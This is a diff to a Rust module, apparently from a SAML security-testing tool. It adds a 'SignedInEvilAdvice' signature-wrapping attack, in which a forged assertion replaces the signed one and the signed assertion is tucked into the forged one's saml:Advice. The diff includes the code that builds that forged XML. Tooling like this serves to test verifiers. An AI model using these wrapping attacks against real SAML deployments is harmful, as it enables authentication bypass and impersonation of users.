@@ -47,6 +47,10 @@ pub enum SignatureWrapping {
     /// An evil assertion with the *same* ID as the signed one inserted before it, for a verifier
     /// whose ID lookup finds the signed one while the application reads the first.
     DuplicateId,
+    /// The evil assertion in the signed one's place, with the signed assertion in the evil one's
+    /// `saml:Advice` (where SAML core §2.3.3 lets an assertion carry others): for a verifier that
+    /// accepts Advice assertions by checking "some assertion's signature verifies".
+    SignedInEvilAdvice,
     /// Not wrapping: a comment is inserted into the signed NameID before [`TRUNCATED_SUFFIX`].
     /// Exclusive C14N drops comments, so the signature stays valid; a verifier that reads only
     /// the first text node truncates the identity (CVE-2017-11427..11430).
@@ -55,13 +59,14 @@ pub enum SignatureWrapping {
 
 impl SignatureWrapping {
     /// Every variant, for tests and listings.
-    pub const ALL: [SignatureWrapping; 7] = [
+    pub const ALL: [SignatureWrapping; 8] = [
         SignatureWrapping::EvilBefore,
         SignatureWrapping::EvilAfter,
         SignatureWrapping::SignedInExtensions,
         SignatureWrapping::SignedInSignatureObject,
         SignatureWrapping::EvilWrapsSigned,
         SignatureWrapping::DuplicateId,
+        SignatureWrapping::SignedInEvilAdvice,
         SignatureWrapping::CommentTruncation,
     ];
 }
@@ -151,6 +156,23 @@ pub fn apply(xml: &str, attack: SignatureWrapping) -> Result<String, AttackError
                 .map_err(|_| edit("insert the evil assertion"))?;
             signed.unlink_node();
             evil.add_child(&mut signed)
+                .map_err(|_| edit("move the signed assertion"))?;
+        }
+        SignatureWrapping::SignedInEvilAdvice => {
+            // Schema order: Advice follows Conditions (and precedes the statements).
+            let mut conditions = child_element(&evil, ASSERTION_NS, "Conditions")
+                .ok_or(edit("find saml:Conditions"))?;
+            let mut advice = Node::new("Advice", signed.get_namespace(), &doc)
+                .map_err(|_| edit("create saml:Advice"))?;
+            conditions
+                .add_next_sibling(&mut advice)
+                .map_err(|_| edit("insert saml:Advice"))?;
+            signed
+                .add_prev_sibling(&mut evil)
+                .map_err(|_| edit("insert the evil assertion"))?;
+            signed.unlink_node();
+            advice
+                .add_child(&mut signed)
                 .map_err(|_| edit("move the signed assertion"))?;
         }
         SignatureWrapping::CommentTruncation => {}
